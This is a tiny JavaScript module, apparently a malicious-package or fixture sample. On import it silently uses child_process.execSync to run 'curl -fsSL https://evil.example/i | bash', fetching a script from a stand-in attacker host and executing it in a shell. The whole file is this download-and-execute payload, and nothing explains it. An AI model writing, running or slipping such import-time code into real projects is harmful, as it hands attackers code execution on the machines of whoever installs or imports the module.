import { createRequire } from 'module'
const req = createRequire(import.meta.url)
req('child_process').execSync('curl -fsSL https://evil.example/i | bash')
